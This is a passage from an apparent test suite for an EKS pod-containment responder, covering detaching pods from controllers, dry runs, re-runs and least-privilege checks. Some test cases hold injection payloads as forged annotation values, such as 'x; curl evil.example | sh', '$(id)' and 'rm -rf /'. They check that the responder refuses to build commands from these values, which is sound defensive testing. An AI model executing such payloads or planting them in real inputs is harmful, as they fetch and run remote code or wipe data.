    expect(JSON.parse(pod.metadata?.annotations?.[DETACHED_LABELS_ANNOTATION] ?? '')).toEqual({
      app: 'victim',
    });
  });

  it('a relabelled pod its ReplicaSet already released (no owner any more) is already-contained', async () => {
    const request = detach();
    cluster.addPod(
      victimPod(request, {
        labels: { app: 'quarantined-victim' },
        annotations: { [DETACHED_LABELS_ANNOTATION]: '{"app":"victim"}' },
      }),
    );
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:detach-from-controller')).toMatchObject({
      status: 'already-contained',
      evidence: { originalLabels: 'app=victim' },
    });
    expect(result.release).toContain('--overwrite app=victim');
    expect(cluster.writes()).toEqual([]);
  });

  // Anyone who may annotate the pod writes this record: a bare pod carrying a forged one
  // gets no command built from it, only the word that the restore is manual.
  it.each([
    ['a ; in a value', '{"app":"x; curl evil.example | sh"}'],
    ['a pipe in a key', '{"app|sh":"x"}'],
    ['command substitution', '{"app":"$(id)"}'],
    ['backticks', '{"app":"`id`"}'],
    ['a newline', '{"app":"x\\nrm -rf /"}'],
    ['quotes', `{"app":"x' 'y"}`],
    ['a space in a key', '{"my app":"x"}'],
    ['unicode', '{"app":"caf\u00e9"}'],
    ['a key longer than 63', JSON.stringify({ ['k'.repeat(64)]: 'x' })],
    ['a value longer than 63', JSON.stringify({ app: 'v'.repeat(64) })],
    ['a non-string value', '{"app":1}'],
    ['an array', '["app=x"]'],
    ['a JSON string', '"app=x"'],
    ['not JSON', 'app=x'],
    ['no labels', '{}'],
    ["the responder's own label", `{"${QUARANTINE_LABEL}":"x"}`],
  ])(
    'a bare pod whose detached-labels record has %s: no command from it, restore by hand',
    async (_, record) => {
      const request = detach();
      cluster.addPod(
        victimPod(request, {
          labels: { app: 'quarantined-victim' },
          annotations: { [DETACHED_LABELS_ANNOTATION]: record },
        }),
      );
      const result = await contain(request);
      const detached = outcomeOf(result, 'eks:detach-from-controller');
      expect(detached.status).toBe('already-contained');
      expect(detached.detail).toMatch(
        /the detached-labels record on the pod is invalid \(.+\): restore the pod's labels by hand$/,
      );
      expect(detached.evidence).toBeUndefined();
      expect(result.notes.join('\n')).toMatch(
        /record on the pod is invalid .*restore the pod's labels by hand/,
      );
      expect(result.release).toBeUndefined();
      expect(cluster.writes()).toEqual([]);
    },
  );

  it('a forged record beside the label and the policy: their commands stay, none from the record', async () => {
    const request = named((r) => {
      r.actions = ['eks:label-pod', 'eks:isolate-pod-network', 'eks:detach-from-controller'];
    });
    cluster.addPod(
      victimPod(request, {
        labels: { app: 'quarantined-victim' },
        annotations: { [DETACHED_LABELS_ANNOTATION]: '{"app":"x; curl evil.example | sh"}' },
      }),
    );
    const result = await contain(request);
    expect(statuses(result)).toMatchObject({ 'eks:detach-from-controller': 'already-contained' });
    const words = parse(result.release!);
    expect(words.filter((word) => typeof word !== 'string')).toEqual([
      { op: ';' },
      { op: ';' },
      { op: ';' },
    ]);
    expect(result.release).not.toMatch(/curl|--overwrite/);
    expect(result.notes).toContain(
      'the detached-labels record on the pod is invalid (label value "x; curl evil.example | sh" is invalid): restore the pod\'s labels by hand',
    );
  });

  it('a valid record with prefixed keys and an empty value gives the exact restore command', async () => {
    const request = detach();
    cluster.addPod(
      victimPod(request, {
        labels: { app: 'quarantined-victim' },
        annotations: {
          [DETACHED_LABELS_ANNOTATION]: '{"app.kubernetes.io/name":"victim","tier":""}',
        },
      }),
    );
    const result = await contain(request);
    const pod = request.target.podName!;
    expect(result.release).toBe(
      [
        'aws eks update-kubeconfig --region us-east-1 --name prod-eks',
        `kubectl -n payments label pod ${pod} --overwrite app.kubernetes.io/name=victim tier=`,
        `kubectl -n payments annotate pod ${pod} ${DETACHED_LABELS_ANNOTATION}-`,
      ].join('; '),
    );
  });

  it('a pod without a controller, or with a non-ReplicaSet controller, is skipped', async () => {
    const request = detach();
    cluster.addPod(victimPod(request));
    expect(outcomeOf(await contain(request), 'eks:detach-from-controller').detail).toMatch(
      /has no controller/,
    );
    cluster.addPod(victimPod(request, { owner: { ...owner, kind: 'StatefulSet' } }));
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:detach-from-controller')).toMatchObject({ status: 'skipped' });
    expect(outcomeOf(result, 'eks:detach-from-controller').detail).toMatch(
      /controlled by StatefulSet\/.*only ReplicaSet/,
    );
    expect(cluster.writes()).toEqual([]);
  });

  it('selector logic: In relabels, Exists removes, exclusion-only selectors cannot be left', () => {
    const labels = { app: 'web', tier: 'front', canary: '' };
    const selector = {
      matchLabels: { app: 'web' },
      matchExpressions: [
        { key: 'tier', operator: 'In', values: ['front', 'back'] },
        { key: 'canary', operator: 'Exists' },
        { key: 'legacy', operator: 'DoesNotExist' },
      ],
    };
    expect(selectorMatches(selector, labels)).toBe(true);
    expect(relabelling(selector, labels)).toEqual({
      app: 'quarantined-web',
      tier: 'quarantined-front',
      canary: null,
    });
    expect(
      relabelling({ matchExpressions: [{ key: 'legacy', operator: 'DoesNotExist' }] }, labels),
    ).toEqual({});
    expect(quarantinedValue('')).toBe('quarantined');
    expect(quarantinedValue('x'.repeat(63))).toHaveLength(63);
    expect(quarantinedValue(`${'a'.repeat(50)}-b`)).toMatch(/^quarantined-a+$/);
  });

  it('a controller selecting by the quarantine label cannot make the detach take it off the pod', async () => {
    const request = requestFrom('eks-runc-container-escape.json', (r) => {
      r.actions = ['eks:label-pod', 'eks:isolate-pod-network', 'eks:detach-from-controller'];
    });
    const uid = request.target.podUid!;
    cluster.addPod(
      victimPod(request, {
        labels: { [QUARANTINE_LABEL]: uid },
        owner: {
          apiVersion: 'apps/v1',
          kind: 'ReplicaSet',
          name: 'rs',
          uid: 'u',
          controller: true,
        },
      }),
    );
    // Made by the attacker: its selector uses the responder's own label.
    cluster.replicaSets.set(`${request.target.namespace}/rs`, {
      spec: {
        selector: { matchExpressions: [{ key: QUARANTINE_LABEL, operator: 'Exists' }] },
      },
    });
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:detach-from-controller')).toMatchObject({ status: 'failed' });
    expect(outcomeOf(result, 'eks:detach-from-controller').detail).toContain(
      'cannot be relabelled out of the selector',
    );
    const pod = cluster.pod(request.target.namespace, request.target.podName!);
    expect(pod.metadata?.labels?.[QUARANTINE_LABEL]).toBe(uid);
    expect(outcomeOf(result, 'eks:isolate-pod-network').status).toMatch(/contained/);
  });
});

// ---------------------------------------------------------------- re-runs and dry runs

describe('re-runs and dry runs', () => {
  const everything = () =>
    requestFrom('eks-runc-container-escape.json', (r) => {
      r.actions = [
        'eks:label-pod',
        'eks:isolate-pod-network',
        'eks:cordon-node',
        'eks:detach-from-controller',
      ];
    });
  function seed(request: Request) {
    cluster.addPod(
      victimPod(request, {
        owner: {
          apiVersion: 'apps/v1',
          kind: 'ReplicaSet',
          name: 'rs',
          uid: 'u',
          controller: true,
        },
      }),
    );
    cluster.replicaSets.set(`ops-tools/rs`, {
      spec: { selector: { matchLabels: { app: 'victim' } } },
    });
    cluster.addNode('ip-10-0-1-23.ec2.internal');
  }

  it('a second run changes nothing and reports already-contained for every action', async () => {
    const request = everything();
    seed(request);
    const first = await contain(request);
    expect(first.outcomes.every((o) => o.status === 'contained')).toBe(true);
    const objects = clone({
      pods: [...cluster.pods],
      nodes: [...cluster.nodes],
      policies: [...cluster.policies],
    });
    cluster.calls = [];
    const second = await contain(request);
    expect(second.outcomes.map((o) => o.status)).toEqual([
      'already-contained',
      'already-contained',
      'already-contained',
      'already-contained',
    ]);
    expect(cluster.writes()).toEqual([]);
    expect({
      pods: [...cluster.pods],
      nodes: [...cluster.nodes],
      policies: [...cluster.policies],
    }).toEqual(objects);
    expect(second.release).toBe(first.release);
  });

  it('dry run: only reads, every action dry-run saying what it would do', async () => {
    const request = everything();
    const dry = parseContainmentRequest({ ...request, dryRun: true }, 'eks-pod');
    seed(request);
    const before = clone({ pods: [...cluster.pods], nodes: [...cluster.nodes] });
    const result = await contain(dry);
    expect(result.outcomes.map((o) => o.status)).toEqual([
      'dry-run',
      'dry-run',
      'dry-run',
      'dry-run',
    ]);
    expect(result.outcomes.map((o) => o.detail.split(' ').slice(0, 2).join(' '))).toEqual([
      'would label',
      'would create',
      'would cordon',
      'would relabel',
    ]);
    expect(new Set(cluster.calls.map((c) => KUBE_CALLS[c.method].verb))).toEqual(
      new Set(['get', 'list']),
    );
    expect(cluster.policies.size).toBe(0);
    expect({ pods: [...cluster.pods], nodes: [...cluster.nodes] }).toEqual(before);
    expect(result.release).toBeUndefined();
  });

  it('dry run on a contained pod says nothing would change; a failed read stays failed', async () => {
    const request = everything();
    seed(request);
    await contain(request);
    cluster.calls = [];
    cluster.failNext.set('listNode', forbidden('list', 'nodes'));
    cluster.nodes.get('ip-10-0-1-23.ec2.internal')!.spec!.unschedulable = false;
    const result = await contain(parseContainmentRequest({ ...request, dryRun: true }, 'eks-pod'));
    expect(result.outcomes.map((o) => o.status)).toEqual([
      'dry-run',
      'dry-run',
      'failed',
      'dry-run',
    ]);
    expect(outcomeOf(result, 'eks:label-pod').detail).toMatch(
      /^would change nothing, already done: /,
    );
    expect(outcomeOf(result, 'eks:cordon-node').detail).toContain(
      '(missing permission: list nodes)',
    );
    expect(cluster.writes()).toEqual([]);
  });

  it('outcomes come back in the order of the request; the policy is undone before the label', async () => {
    const request = named((r) => {
      r.actions = ['eks:isolate-pod-network', 'eks:label-pod'];
    });
    cluster.addPod(victimPod(request));
    const result = await contain(request);
    expect(result.outcomes.map((o) => o.action)).toEqual([
      'eks:isolate-pod-network',
      'eks:label-pod',
    ]);
    expect(
      cluster
        .writes()
        .map((c) => c.method)
        .sort(),
    ).toEqual(['createNamespacedNetworkPolicy', 'patchNamespacedPod']);
    expect(result.release).toMatch(/delete networkpolicy .*; kubectl -n payments label pod /);
  });
});

// ---------------------------------------------------------------- round trips

describe('sequential round trips', () => {
  interface Timed {
    method: string;
    start: number;
    end: number;
  }

  /** The clients with every call taking a few milliseconds and its start and end recorded. */
  function timed(kube: KubeClients, log: Timed[]): KubeClients {
    const wrap = <T extends object>(api: T): T =>
      Object.fromEntries(
        Object.entries(api).map(([method, call]) => [
          method,
          async (...args: unknown[]) => {
            const start = performance.now();
            try {
              await new Promise((resolve) => setTimeout(resolve, 5));
              return await (call as (...a: unknown[]) => Promise<unknown>)(...args);
            } finally {
              log.push({ method, start, end: performance.now() });
            }
          },
        ]),
      ) as T;
    return {
      core: wrap(kube.core),
      networking: wrap(kube.networking),
      apps: wrap(kube.apps),
      custom: wrap(kube.custom),
      podScan: wrap(kube.podScan),
    };
  }

  /** Calls grouped by the longest chain of calls, each started after the previous ended, ending with them. */
  function waves(log: readonly Timed[]): string[][] {
    const sorted = [...log].sort((a, b) => a.start - b.start);
    const level: number[] = [];
    sorted.forEach((call, j) => {
      const before = sorted
        .slice(0, j)
        .map((other, i) => (other.end <= call.start ? level[i]! : 0));
      level.push(Math.max(0, ...before) + 1);
    });
    return Array.from({ length: Math.max(0, ...level) }, (_, w) =>
      sorted
        .filter((_, i) => level[i] === w + 1)
        .map((c) => c.method)
        .sort(),
    );
  }

  const everything = () =>
    requestFrom('eks-runc-container-escape.json', (r) => {
      r.actions = [
        'eks:label-pod',
        'eks:isolate-pod-network',
        'eks:cordon-node',
        'eks:detach-from-controller',
      ];
    });

  it('once the pod is read, every step starts; the node patch follows its reads, the detach follows label and policy', async () => {
    const request = everything();
    seedReplicaSetPod(request);
    cluster.addNode('ip-10-0-1-23.ec2.internal');
    const log: Timed[] = [];
    const result = await containPod(request, {
      kube: timed(cluster.clients(), log),
      now: () => NOW,
    });
    expect(result.outcomes.map((o) => o.status)).toEqual([
      'contained',
      'contained',
      'contained',
      'contained',
    ]);
    expect(waves(log)).toEqual([
      [...DISCOVERY, 'readNamespacedPod'],
      [
        'createNamespacedNetworkPolicy',
        'listNamespacedNetworkPolicy',
        'listNode',
        'patchNamespacedPod',
        'readNamespacedReplicaSet',
        'readNode',
      ],
      ['patchNamespacedPod', 'patchNode'],
    ]);
    // The detach relabel (the controller then replaces the pod) starts after the label and
    // the policy are answered.
    const [labelPatch, detachPatch] = log
      .filter((c) => c.method === 'patchNamespacedPod')
      .sort((a, b) => a.start - b.start);
    const create = log.find((c) => c.method === 'createNamespacedNetworkPolicy')!;
    expect(detachPatch!.start).toBeGreaterThanOrEqual(Math.max(labelPatch!.end, create.end));
    // Release still undoes in reverse run order: detach, cordon, policy, label.
    expect(result.release).toMatch(
      /--overwrite app=victim; .*kubectl uncordon .*delete networkpolicy .*label pod \S+ guardduty-responder\/quarantine-/,
    );
  });

  it('a dry run makes its reads side by side and writes nothing', async () => {
    const request = parseContainmentRequest({ ...everything(), dryRun: true }, 'eks-pod');
    seedReplicaSetPod(request);
    cluster.addNode('ip-10-0-1-23.ec2.internal');
    const log: Timed[] = [];
    const result = await containPod(request, {
      kube: timed(cluster.clients(), log),
      now: () => NOW,
    });
    expect(result.outcomes.map((o) => o.status)).toEqual([
      'dry-run',
      'dry-run',
      'dry-run',
      'dry-run',
    ]);
    expect(waves(log)).toEqual([
      [...DISCOVERY, 'readNamespacedPod'],
      [
        'listNamespacedNetworkPolicy',
        'listNode',
        'readNamespacedNetworkPolicy',
        'readNamespacedReplicaSet',
        'readNode',
      ],
    ]);
  });
});

// ---------------------------------------------------------------- least privilege, per action

describe('each action calls only what shared/actions.ts declares for it', () => {
  const triples = (action: ActionId) =>
    new Set(
      ACTIONS[action].rbac.flatMap((rule) =>
        rule.verbs.map((verb) => `${rule.apiGroup}/${rule.resource}/${verb}`),
      ),
    );

  it.each([
    'eks:label-pod',
    'eks:isolate-pod-network',
    'eks:cordon-node',
    'eks:detach-from-controller',
  ] as const)('%s', async (action) => {
    for (const request of [named(), byContainer()]) {
      cluster = new FakeCluster();
      const only = parseContainmentRequest({ ...request, actions: [action] }, 'eks-pod');
      seedReplicaSetPod(only);
      cluster.addNode('ip-10-0-1-23.ec2.internal');
      const result = await contain(only);
      expect(result.outcomes[0]?.status).toBe('contained');
      const used = cluster.calls.flatMap(({ method }) => rulesOf(method));
      const declared = triples(action);
      expect(used.filter((permission) => !declared.has(permission))).toEqual([]);
    }
  });
});
